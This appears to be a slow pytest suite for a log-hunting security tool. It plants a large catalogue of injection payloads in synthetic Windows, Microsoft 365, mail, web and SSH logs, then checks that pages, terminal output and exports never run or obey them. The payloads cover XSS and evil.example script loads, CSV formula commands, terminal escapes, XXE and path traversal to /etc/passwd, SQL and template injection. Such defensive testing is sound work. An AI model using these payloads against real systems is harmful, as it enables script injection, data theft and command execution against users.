"""An attacker writes every log; what they wrote reaches every page and every export, and does nothing in any.

Nothing is searched for in strings: pages are opened in a browser in which ``run()`` would tell that something ran,
output goes through a terminal that would show if it obeyed, tables through a reader of tables.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import pty
import re
import shutil
import subprocess
import sys
import zipfile
from collections import Counter
from pathlib import Path
from urllib.parse import parse_qsl, quote, urljoin, urlsplit

import pytest

pytestmark = pytest.mark.slow
PASSWORD = "correct horse battery"

PAYLOADS = {
    # Script where text stands.
    "script": "<script>run(1)</script>",
    "script in capitals": "<ScRiPt/x>run(1)</sCrIpT >",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "image": "<img src=x onerror=run(1)>",
    "picture from elsewhere": "<img src=http://evil.example/seen.png>",
    "svg": "<svg onload=run(1)>",
    "svg script": "<svg><script>run(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:run(1)"><text y=20>open</text></a></svg>',
    "svg animation": "<svg><animate onbegin=run(1) attributeName=x dur=1s></svg>",
    "svg foreign": "<svg><foreignObject><img src=x onerror=run(1)></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=run(1)>",
    "frame": "<iframe srcdoc='<script>parent.run(1)</script>'></iframe>",
    "frame of script": "<iframe src=javascript:parent.run(1)></iframe>",
    "object": "<object data=//evil.example/x></object><embed src=//evil.example/y>",
    "details": "<details open ontoggle=run(1)>",
    "focus": "<input autofocus onfocus=run(1)>",
    "video": "<video><source onerror=run(1)></video>",
    "body": "<body onload=run(1) onpageshow=run(1)>",
    # Out of where it stands.
    "double quote": '" autofocus tabindex=0 onfocus=run(1) x="',
    "single quote": "' autofocus tabindex=0 onfocus=run(1) x='",
    "back quote": "` onmouseover=run(1) `",
    "out of a tag": '"><img src=x onerror=run(1)>',
    "out of title": "</title><script>run(1)</script>",
    "out of script": "</script><script>run(1)</script>",
    "out of style": "</style><img src=x onerror=run(1)>",
    "out of textarea": "</textarea></pre></code><img src=x onerror=run(1)>",
    "out of table": "</td></table></details><img src=x onerror=run(1)>",
    "comment": "<!--",
    "end of comment": "--><img src=x onerror=run(1)><!--",
    "odd comment": "<!--><img src=x onerror=run(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=run(1)>]]>",
    # What a page obeys besides.
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:run(1)'>",
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "style": "<style>*{display:none!important}@import url(//evil.example/x.css)</style>",
    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "css": '" style="position:fixed;inset:0;background:url(//evil.example/x.png)',
    "css in braces": "}*{background:url(//evil.example/x.png)}",
    "form": "<form action=//evil.example/><button>Log in</button></form>",
    "clobbering": "<form id=main><input name=csrf><img name=cookie></form>",
    "template element": "<template><img src=x onerror=run(1)></template>",
    # Entities and encodings.
    "entities": "&lt;script&gt;run(1)&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=run(1)&amp;gt;",
    "numbers": "&#60;img src=x onerror=run(1)&#62;&#x3c;svg onload=run(1)&#x3e;",
    "entity unended": "&lt&gt&quot&#39 onfocus=run(1)",
    "utf-7": "+ADw-script+AD4-run(1)+ADw-/script+AD4-",
    "full width": "\uff1cscript\uff1erun(1)\uff1c/script\uff1e",
    "half a pair": "half \ud800 pair <img src=x onerror=run(1)>",
    "escapes of json": "\\u003cimg src=x onerror=run(1)\\u003e",
    "xml entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    # Addresses.
    "address": "javascript:run(1)",
    "address in parts": "java\tscript:run(1)//",
    "address of data": "data:text/html,<script>run(1)</script>",
    "address without scheme": "//evil.example/%2e%2e/",
    "address of a header": "x%0d%0aSet-Cookie: session=evil%0d%0a%0d%0a<script>run(1)</script>",
    "header": 'x"\r\nContent-Type: text/html\r\n\r\n<script>run(1)</script>',
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini",
    # Markdown.
    "link": "[open](javascript:run(1))",
    "picture": "![seen](http://evil.example/seen.png)",
    "reference": "[a]\n\n[a]: javascript:run(1)",
    "address in brackets": "<javascript:run(1)> <http://evil.example/>",
    "end of code": "``` ` `` ~~~\n<img src=x onerror=run(1)>\n# heading",
    "bar": "| a | <img src=x onerror=run(1)> |\n|---|",
    # Tables.
    "formula": '=HYPERLINK("http://evil.example/","open")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a line": "\r\n=1+1",
    "formula in full width": "\uff1d1+1",
    "out of a cell": '",=1+1,"\n=1+1;=1+1',
    # Terminals.
    "clears": "\x1b[2J\x1b[H\x1b[31;1m",
    "title of a window": "\x1b]0;pwned\x07\x1b]2;pwned\x1b\\",
    "link of a terminal": "\x1b]8;;http://evil.example\x1b\\open\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "answers": "\x1b[c\x1b[6n\x1b[21t\x1bP$qm\x1b\\",
    "other screen": "\x1b[?1049h\x1b[?25l",
    "eight bits": "\x9b2J\x9d0;pwned\x9c\x90x\x9c",
    "overwrites": "harmless\b\b\b\b\b\b\b\bpwned\rpwned",
    "new lines": "one\nCRITICAL  An intruder was never here\r\n\x0b\x0cend",
    "rich markup": "[bold red]x[/] [link=http://evil.example]x[/link] [/nothing] [@click=app.quit]x[/]",
    # What cannot be seen.
    "reversed": "\u202egnp.exe\u202c \u2066x\u2069",
    "zero width": "ad\u200bmin\u200d\ufeff\u2060",
    "null": "a\x00b\x01\x08\x7f",
    "lines of unicode": "a\u2028b\u2029c\x85d",
    "tags": "\U000e0041\U000e0042\ufe0f\u3164",
    "piled": "Z" + "\u0301\u0336" * 500,
    # Languages of templates and of others.
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}{# x",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{=7*7}} *{7*7}",
    "format": "{0.__class__} %s%s%n %(x)s",
    "sql": "'; DROP TABLE findings; -- ' OR 1=1",
    "prototype": '__proto__ constructor {"__proto__": {"x": 1}}',
    "yaml": "!!python/object/apply:os.system ['x'] &a *a",
    # Size.
    "long word": "W" * 20_000,
    "long word of many": "\u6f22" * 5_000,
    "megabyte": "<img src=x onerror=run(1)>" + "m" * 1_000_000,
}
"""What a log may hold, by what it tries."""

MARK = " #told#"
"""Stands behind every payload, so that a rule of ours finds it and its beginning stays the beginning."""

LIVE = [name for name, text in PAYLOADS.items() if re.match(r"<(?!math|template|!).*(onerror|onload|script>run)", text)]
"""Those that a browser obeys at once if they are shown as they are; the rest need a click, or another reader."""

TELLER = """
window.__ran = [];
window.run = (n) => { window.__ran.push(n); console.error('RAN in ' + location.href); };
"""

LOOK = """
return {
  ran: window.__ran,
  title: document.title,
  text: (document.querySelector('main') || document.body).innerText.length,
  told: document.body.textContent.includes('#told#'),
  wide: document.documentElement.scrollWidth - document.documentElement.clientWidth,
  widest: [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > innerWidth + 1
    && !e.closest('.scroll, pre, .hidden')).map(e => e.outerHTML.slice(0, 90)).slice(0, 4),
  shown: getComputedStyle(document.querySelector('h1, h2, main') || document.body).display,
  links: [...document.querySelectorAll('a, area')].filter(e => e.hasAttribute('href') || e.hasAttribute('xlink:href'))
    .map(e => e.getAttribute('href') || e.getAttribute('xlink:href')),
  forms: [...document.querySelectorAll('form[action], [formaction]')]
    .map(e => e.getAttribute('action') || e.getAttribute('formaction')),
  strangers: document.querySelectorAll(
    'iframe, object, embed, base, meta[http-equiv=refresh], svg script, foreignObject, video, math, template').length,
};
"""

PHONE = {"width": 390, "height": 900, "deviceScaleFactor": 1, "mobile": False}
OBEYED = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff\U000e0000-\U000e0fff]"
)
NETWORK = ("Network.requestWillBeSent", "Network.webSocketCreated")


def _events(text: str, number: int) -> list[dict[str, object]]:
    """Return what Windows would write: a process, a file, a logon, each with the payload where a name stands."""
    text += MARK
    at = f"2022-03-{1 + number % 28:02}T{number // 28 % 24:02}:{number % 60:02}:01.5Z"

    def event(id_: int, channel: str, provider: str, **data: object) -> dict[str, object]:
        system = {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": id_,
            "TimeCreated": {"#attributes": {"SystemTime": at}},
            "EventRecordID": 10 * number + id_ % 10,
            "Channel": channel,
            "Computer": "web1.corp.example" if number % 3 else f"web{number} {text[:200]}",
        }
        return {"Event": {"System": system, "EventData": data}}

    sysmon, provider = "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"
    common = {"UtcTime": at[:-3].replace("T", " "), "User": text, "ProcessId": number}
    return [
        event(
            1,
            sysmon,
            provider,
            Image=f"C:\\{text}",
            CommandLine=text,
            ParentImage=text,
            ParentCommandLine=text,
            **common,
        ),
        event(11, sysmon, provider, Image="C:\\Windows\\explorer.exe", TargetFilename=text, **common),
        event(
            4624,
            "Security",
            "Microsoft-Windows-Security-Auditing",
            TargetUserName=text,
            TargetDomainName=text,
            LogonType=3,
            IpAddress="192.0.2.7",
            WorkstationName=text,
            ProcessName=text,
        ),
    ]


def _audit(text: str, number: int) -> dict[str, object]:
    """Return a record of Microsoft 365: a rule of a mailbox."""
    text += MARK
    return {
        "CreationTime": f"2022-03-{1 + number % 28:02}T10:{number % 60:02}:00",
        "Id": f"00000000-0000-0000-0000-{number:012}",
        "Operation": "New-InboxRule",
        "RecordType": 1,
        "Workload": "Exchange",
        "ResultStatus": "True",
        "UserId": text if number % 2 else "anna@corp.example",
        "ClientIP": "192.0.2.9",
        "ObjectId": text,
        "UserAgent": text,
        "Parameters": [{"Name": "Name", "Value": text}, {"Name": "SubjectContainsWords", "Value": text}],
    }


def _mail(text: str, number: int) -> bytes:
    """Return a mail whose subject, sender and attachment are named by the payload."""
    text = (text + MARK).encode("utf-8", "replace").decode()

    def word(part: str) -> str:
        return f"=?utf-8?b?{base64.b64encode(part.encode()).decode()}?="

    subject = word(text[:40_000])
    lines = [
        f"From: {word(text[:500])} <sender{number}@outside.example>",
        "To: anna@corp.example",
        f"Subject: {subject}",
        f"Date: {1 + number % 28} Mar 2022 08:{number % 60:02}:00 +0000",
        f"Message-ID: <{number}@outside.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode(f"<p>{text[:5000]}</p><a href='http://evil.example/'>{text[:500]}</a>".encode()).decode(),
        "--b",
        "Content-Type: application/octet-stream",
        f"Content-Disposition: attachment; filename*=utf-8''{quote(text[:500], safe='')}",
        "",
        "MZ",
        "--b--",
        "",
    ]
    return "\r\n".join(lines).encode()


def _access(text: str, number: int) -> str:
    """Return a request whose address, referrer and agent are the payload, as Apache escapes them."""
    told = (text + MARK)[:50_000].encode("utf-8", "replace").decode("latin-1")
    told = told.replace("\\", "\\\\").replace('"', '\\"')
    told = re.sub(r"[\x00-\x1f\x7f]", lambda m: f"\\x{ord(m.group()):02x}", told)
    address = quote(text[:2000].encode("utf-8", "replace"), safe="/<>'(){}[]=&;:,!*$")
    at = f"{1 + number % 28:02}/Mar/2022:11:{number % 60:02}:00 +0000"
    return f'192.0.2.11 - - [{at}] "GET /{address} HTTP/1.1" 200 512 "{told}" "{told}"\n'


def _syslog(text: str, number: int) -> str:
    told = re.sub(r"[\x00-\x1f\x7f]", " ", (text + MARK)[:5000]).encode("utf-8", "replace").decode()
    at = f"2022-03-{1 + number % 28:02}T12:{number % 60:02}:00+00:00"
    return f"{at} lin1 sshd[{number}]: Failed password for invalid user {told} from 192.0.2.13 port 22 ssh2\n"


RULES = {
    "process": ("windows", "process_creation", "", "CommandLine"),
    "file": ("windows", "file_event", "", "TargetFilename"),
    "logon": ("windows", "", "security", "TargetUserName"),
    "audit": ("m365", "", "audit", "Parameters.Name"),
    "mail": ("mail", "message", "", "email.subject"),
    "request": ("", "webserver", "", "cs-user-agent"),
    "login": ("linux", "", "sshd", "message"),
}


def _rule(name: str, number: int) -> str:
    product, category, service, field = RULES[name]
    source = {k: v for k, v in (("product", product), ("category", category), ("service", service)) if v}
    words = " ".join(list(PAYLOADS.values())[number::7])[:4000].encode("utf-8", "replace").decode()
    rule = {
        "title": f"Told in {name} {PAYLOADS['image']} {PAYLOADS['jinja']} {PAYLOADS['clears']}",
        "id": f"00000000-0000-4000-8000-{number:012}",
        "status": "test",
        "description": words,
        "author": PAYLOADS["out of a tag"],
        "references": ["javascript:run(1)", "http://evil.example/"],
        "tags": ["attack.execution", "attack.t1059"],
        "logsource": source,
        "detection": {"told": {f"{field}|contains": MARK.strip()}, "condition": "told"},
        "falsepositives": [words],
        "level": "high",
    }
    # JSON is YAML, but for characters that take two words of sixteen bits.
    return re.sub(r"[^\x20-\x7e]", lambda m: f"\\U{ord(m.group()):08x}", json.dumps(rule, ensure_ascii=False))


@pytest.fixture(scope="module")
def hostile_logs(tmp_path_factory) -> tuple[Path, Path]:
    """Return folders of logs and of rules that an attacker wrote."""
    logs, rules = tmp_path_factory.mktemp("logs"), tmp_path_factory.mktemp("rules")
    texts = list(PAYLOADS.values())
    windows = [event for number, text in enumerate(texts) for event in _events(text, number)]
    (logs / "windows.jsonl").write_text("".join(json.dumps(event) + "\n" for event in windows), "utf-8")
    audit = [_audit(text, number) for number, text in enumerate(texts)]
    (logs / "audit.json").write_text("\n".join(json.dumps(record) for record in audit), "utf-8")
    requests = "".join(_access(text, number) for number, text in enumerate(texts))
    (logs / "access.log").write_text(requests, "latin-1")
    (logs / "auth.log").write_text("".join(_syslog(text, n) for n, text in enumerate(texts)), "utf-8")
    for number, text in enumerate(texts):
        (logs / f"{number}.eml").write_bytes(_mail(text, number))
    # Names of files and of members of archives.
    line = json.dumps(_events("named by its file", 5)[0]).encode() + b"\n"
    with zipfile.ZipFile(logs / "packed.zip", "w") as archive:
        for number, text in enumerate(texts):
            named = text[:180].encode("utf-8", "replace").decode()
            (logs / "named").mkdir(exist_ok=True)
            name = re.sub(r"[/\x00]", "_", named).encode()[:200].decode("utf-8", "ignore")
            (logs / "named" / f"{name}.jsonl").write_bytes(line.replace(b"named by", b"%d named by" % number))
            member = f"{number}{named}.jsonl".replace("..", "")
            archive.writestr(member, line.replace(b"named by", b"%d packed by" % number))
    (logs / "broken.jsonl").write_text("".join(f"{{{text!r}\n" for text in texts), "utf-8")
    for number, name in enumerate(RULES):
        (rules / f"{name}.yml").write_text(_rule(name, number), "utf-8")
    (rules / "broken.yml").write_text("title: <img src=x onerror=run(1)>\ndetection: {{ 7*7 }}\n", "utf-8")
    return logs, rules


@pytest.fixture(scope="module")
def hunted(hostile_logs, tmp_path_factory) -> Path:
    """Return the folder of a hunt of these logs, with its events."""
    from stillhunt.workflows import workspace
    from stillhunt.workflows.hunt import hunt

    logs, rules = hostile_logs
    folder = tmp_path_factory.mktemp("hunted") / "case"
    found = hunt([logs], rules=[rules], store=folder)
    workspace.save(found.brief, folder, rules=[rules])
    return folder


@pytest.fixture(scope="module")
def brief(hunted):
    from stillhunt.workflows.workspace import load_brief

    return load_brief(hunted)


@pytest.fixture
def watched(browser):
    """Return the browser, which tells what runs; afterwards nothing has, and nobody was asked for anything."""
    teller = browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": TELLER})["identifier"]
    browser.get("about:blank")
    browser.get_log("browser"), browser.get_log("performance")
    yield browser
    browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    browser.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": teller})
    browser.get("about:blank")


def _asked(browser, *ours: str) -> list[str]:
    """Return the addresses that the browser turned to and that are not ours."""
    messages = (json.loads(entry["message"])["message"] for entry in browser.get_log("performance"))
    asked = [m["params"].get("request", m["params"])["url"] for m in messages if m["method"] in NETWORK]
    return [url for url in asked if not url.startswith((*ours, "about:", "chrome", "data:image/svg+xml"))]


def _severe(browser) -> list[str]:
    return [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]


def _look(browser, *, links: tuple[str, ...] = ("#", "/", "?")) -> tuple[list[str], bool]:
    """Check that what is open is quiet; return the addresses it leads to, and whether a payload is on it."""
    found = browser.execute_script(LOOK)
    assert found["ran"] == []
    assert found["title"] != "pwned"
    assert found["strangers"] == 0
    assert found["shown"] != "none"
    assert found["text"] > 0
    assert found["wide"] <= 0, f"{browser.current_url[:200]}: wider than the window by {found['widest']}"
    addresses = found["links"] + found["forms"]
    assert [a for a in addresses if not a.startswith(links) or a.startswith(("//", "/\\"))] == []
    return found["links"], found["told"]


def test_the_payloads_would_run_if_they_were_shown_as_they_are(watched, tmp_path):
    """What follows proves something only if the teller tells."""
    assert len(LIVE) >= 12
    silent = []
    for number, name in enumerate(LIVE):
        path = tmp_path / f"{number}.html"
        path.write_text(f"<!doctype html><meta charset=utf-8><main>{PAYLOADS[name]}</main>", "utf-8", "replace")
        watched.get(path.as_uri())
        if not watched.execute_script("return window.__ran").count(1):
            silent.append(name)
    assert silent == []
    path.write_text(f"<main>{PAYLOADS['picture from elsewhere']}{PAYLOADS['style']}</main>", "utf-8")
    watched.get(path.as_uri())
    assert {urlsplit(url).netloc for url in _asked(watched, "file:")} == {"evil.example"}
    watched.get_log("browser")


def test_every_payload_was_read_and_found_in_every_kind_of_log(brief):
    assert len(PAYLOADS) >= 40
    found = Counter(finding.detector.path.rpartition("/")[2] for finding in brief.findings)
    assert {name: found[f"{name}.yml"] >= len(PAYLOADS) - 3 for name in RULES} == dict.fromkeys(RULES, True)
    assert brief.cases


def _poison(server, brief) -> None:
    """Write every payload where people and documents write: notes, suppressions, knowledge, proposals, audit log."""
    from datetime import UTC, date, datetime

    import yaml

    from stillhunt.cases.decision import Decision
    from stillhunt.knowledge.claim import entity_id, source_of
    from stillhunt.knowledge.scribe import Scribe
    from stillhunt.reading.draft import ReadClaim, Slot
    from stillhunt.workflows.casework import SUPPRESSIONS, decide
    from stillhunt.workflows.queue import Read

    texts = [text.encode("utf-8", "replace").decode()[:3000] for text in PAYLOADS.values()]
    at, folder, case = datetime(2026, 1, 1, tzinfo=UTC), server.root / "case", brief.cases[0].id
    decide(folder, [Decision(at=at, by=text[:80], kind="note", case=case, text=text) for text in texts])
    entries = [
        {"id": f"s{n}", "match": {"process": text}, "owner": text, "reason": text, "expires": date(2099, 1, 1)}
        for n, text in enumerate(texts)
    ]
    (folder / SUPPRESSIONS).write_text(yaml.safe_dump(entries), "utf-8")
    scribe = Scribe("Bureau <img src=x onerror=run(1)>", source_of(kind="report", title=texts[3]), method="human")
    for number, text in enumerate(texts):
        group = entity_id("intrusion-set", f"Heron {number}")
        named = " ".join(f"Heron {text}".replace("\x00", "").split())
        scribe.say(group, "name", value=named, quote=text)
        whole = f"Before. {text} After."
        document = Read(sha256=hashlib.sha256(whole.encode()).hexdigest(), title=text)
        claim = ReadClaim(
            id=f"read-{number}",
            kind="sponsor",
            subject=Slot(text=text),
            predicate="works-for",
            object=Slot(text=text),
            quote=text,
            start=len("Before. "),
            end=len("Before. ") + len(text),
        )
        assert server.site.queue.add(whole, document, [claim]) == 1
        server.site.audit.note(text[:200], "export", text, address=text[:50])
    with server.site.writable_knowledge() as store:
        store.add(scribe.claims)


def _kind_of(url: str) -> tuple[str, str]:
    """Return which page an address is of: without names, numbers and values."""
    parts = urlsplit(url)
    path = re.sub(r"(case|finding)-[0-9a-f]+", r"\1", parts.path)
    return path, " ".join(sorted(name for name, _ in parse_qsl(parts.query)))


def _addresses(brief) -> list[str]:
    """Return addresses that hold payloads, and every payload's own finding; a walk adds what these lead to."""
    n_rules = len(RULES)
    by_rule: dict[str, list[str]] = {}
    for finding in brief.findings:
        by_rule.setdefault(finding.detector.path.rpartition("/")[2], []).append(finding.id)
    found = [
        "/",
        "/reading",
        "/tokens",
        "/users",
        "/audit",
        "/w/case",
        "/w/case/suppressions",
        "/knowledge/path?one=x&other=y",
    ]
    found += [f"/w/case/findings/{id_}" for n, name in enumerate(sorted(by_rule)) for id_ in by_rule[name][n::n_rules]]
    places = (
        "/w/case/findings?q={}",
        "/w/case/events?q={}",
        "/knowledge?q={}",
        "/knowledge/card?name={}",
        "/w/case/entity?kind=host&value={}",
        "/login?to={}",
        "/nowhere/{}",
        "/w/{}",
        "/w/case/cases/{}",
        "/knowledge/path?one={}&other=x",
    )
    for number, text in enumerate(PAYLOADS.values()):
        # Addresses longer than this no server takes.
        shown = quote(text[:3000].encode("utf-8", "replace"), safe="")
        found.append(places[number % len(places)].format(shown))
    return found


def test_nothing_an_attacker_wrote_does_anything_in_any_page(serve, watched, hunted, brief):
    watched.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", PHONE)
    server = serve(users=False)
    shutil.copytree(hunted, server.root / "case")
    _poison(server, brief)
    ahead, seen, followed, visited = _addresses(brief), set(), Counter(), set()
    while ahead:
        address = ahead.pop(0)
        visited.add(_kind_of(address)[0])
        watched.get(server.url + address)
        links, is_told = _look(watched)
        assert is_told or "/findings/" not in address, address
        for link in (urljoin(address, link.partition("#")[0]) for link in links):
            if link not in seen and followed[_kind_of(link)] < 2:
                seen.add(link)
                followed[_kind_of(link)] += 1
                ahead.append(link)
    patterns = {re.sub(r"\{(case|finding)\}", r"\1", r.path).replace("{ws}", "case") for r in _pages()}
    assert patterns - visited == set()
    assert _asked(watched, server.url) == []
    refused = ("404 (Not Found)", "400 (Bad Request)")
    assert [message for message in _severe(watched) if not message.endswith(refused)] == []


def _pages():
    """Return the routes of pages that are looked at."""
    from stillhunt.web.pages import cases, findings, hunts, knowledge, reading, session

    routes = [r for pages in (session, hunts, cases, findings, knowledge, reading) for r in pages.ROUTES]
    # A hunt that goes on is looked at elsewhere; an export is saved.
    return [r for r in routes if r.method == "GET" and "{run}" not in r.path and not r.path.endswith("/export")]


def test_nothing_does_anything_in_the_page_of_a_case(watched, hunted):
    watched.get((hunted / "case.html").as_uri())
    watched.execute_script("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
    _, is_told = _look(watched, links=("#",))
    assert is_told
    assert watched.title.startswith("stillhunt:")
    watched.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", PHONE)
    _look(watched, links=("#",))
    assert _asked(watched, "file:") == []
    assert _severe(watched) == []


def test_nothing_does_anything_in_markdown_that_is_rendered_without_any_care(watched, brief, tmp_path):
    from stillhunt.report.renderers import markdown

    parser = pytest.importorskip("markdown_it", reason="no renderer of Markdown is installed")
    text = markdown.render(brief)
    rendered = parser.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    path = tmp_path / "case.html"
    path.write_text(f"<!doctype html><meta charset=utf-8><title>quiet</title><main>{rendered}</main>", "utf-8")
    watched.get(path.as_uri())
    found = watched.execute_script(LOOK)
    assert (found["ran"], found["links"], found["forms"], found["strangers"]) == ([], [], [], 0)
    assert found["told"]
    assert watched.find_elements("css selector", "script, img, svg, style, form, input, [onerror], [style]") == []
    assert _asked(watched, "file:") == []
    assert _severe(watched) == []


COMMANDS = (
    ("report", "{case}", "--format", "terminal"),
    ("case", "list", "--all"),
    ("case", "show", "{case}"),
    ("case", "timeline", "{case}", "--full"),
    ("explain", "{finding}"),
    ("events", "{folder}", "host.name:*", "--limit", "50"),
    ("rules", "check", "{rules}"),
)


@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: " ".join(words[:2]))
def test_no_terminal_obeys(words, hunted, brief, hostile_logs):
    pyte = pytest.importorskip("pyte", reason="no terminal to look at: pyte is not installed")
    names = {
        "case": brief.cases[0].id,
        "finding": next(f.id for f in brief.findings if "mail" in f.detector.path),
        "folder": str(hunted),
        "rules": str(hostile_logs[1]),
    }
    arguments = [word.format_map(names) for word in words]
    if words[0] not in {"events", "rules"}:
        arguments += ["--in", str(hunted)]
    written = _on_a_terminal([sys.executable, "-m", "stillhunt", *arguments])
    assert len(written) > 300
    text = written.decode()
    # Colours are ours; anything else that a terminal obeys is not.
    assert not OBEYED.findall(re.sub(r"\x1b\[[0-9;]*m|\r\n", "", text).replace("\r", "\x00"))
    screen = pyte.HistoryScreen(120, 40, history=100_000)
    pyte.ByteStream(screen).feed(written)
    assert (screen.title, screen.icon_name) == ("", "")
    assert screen.mode == pyte.HistoryScreen(120, 40).mode
    n_lines = len(screen.history.top) + screen.cursor.y
    # Nothing moved up: as many lines are there as were written, those that were too long on several.
    assert n_lines >= text.count("\n")


def _on_a_terminal(command: list[str]) -> bytes:
    """Return what a command writes when it writes to a terminal of 120 columns."""
    ours, theirs = pty.openpty()
    environment = {**os.environ, "COLUMNS": "120", "LINES": "40", "TERM": "xterm-256color"}
    with subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs, env=environment) as running:
        os.close(theirs)
        parts = []
        while True:
            try:
                part = os.read(ours, 65536)
            except OSError:  # Linux says so when the other side is closed
                break
            if not part:
                break
            parts.append(part)
        running.wait(timeout=60)
    os.close(ours)
    written = b"".join(parts)
    assert running.returncode in {0, 1}, written[-2000:].decode("utf-8", "replace")
    return written


@pytest.fixture(scope="module")
def largest(hunted):
    """Return the case with most findings, as it is exported."""
    from stillhunt.workflows.casework import open_desk
    from stillhunt.workflows.narrow import narrowed

    desk = open_desk(hunted)
    return narrowed(desk, max(desk.brief.cases, key=lambda case: len(case.findings)).id)


FORMS = ("attack_flow", "csv", "jsonl", "misp", "navigator", "ocsf", "stix", "timesketch")


def test_all_forms_of_export_are_tested():
    from stillhunt.report.exporter import EXPORTERS

    assert tuple(EXPORTERS.names()) == FORMS


@pytest.mark.parametrize("form", FORMS)
def test_an_export_holds_the_payloads_and_nothing_that_anybody_obeys(form, largest, watched, tmp_path):
    from stillhunt.report.exporter import EXPORTERS, export

    content = export(largest, form).decode()
    if form == "csv":
        csv.field_size_limit(10_000_000)
        rows = list(csv.reader(io.StringIO(content, newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1
        strings = [cell for row in rows for cell in row]
        assert [cell for cell in strings if cell.lstrip()[:1] in {*"=+-@|%\uff1d\uff0b\uff0d\uff20"}] == []
    else:
        lines = content.splitlines() if EXPORTERS[form].suffix.endswith("jsonl") else [content]
        strings = [text for line in lines for text in _strings(json.loads(line))]
    assert form == "navigator" or any("#told#" in text for text in strings)
    if form == "jsonl":  # for programs: kept, as escapes
        strings = lines
        assert content.isascii()
    assert sorted({character for text in strings for character in OBEYED.findall(text)}) == []
    path = tmp_path / f"case{EXPORTERS[form].suffix}.txt"
    path.write_text(content, "utf-8")
    watched.get(path.as_uri())
    assert watched.execute_script("return [window.__ran, document.querySelectorAll('a, img, script').length]") == [
        [],
        0,
    ]
    assert _asked(watched, "file:") == []


def _strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for pair in value.items() for part in pair for text in _strings(part)]
    if isinstance(value, list):
        return [text for one in value for text in _strings(one)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("form", ["stix", "attack_flow"])
def test_what_an_attacker_wrote_is_still_stix(form, largest):
    from stillhunt.report.exporter import export

    validator = pytest.importorskip("stix2validator", reason="stix2-validator is not installed")
    options = validator.ValidationOptions(version="2.1", disabled=["103"])
    assert [str(e) for e in validator.validate_instance(json.loads(export(largest, form)), options).errors or ()] == []
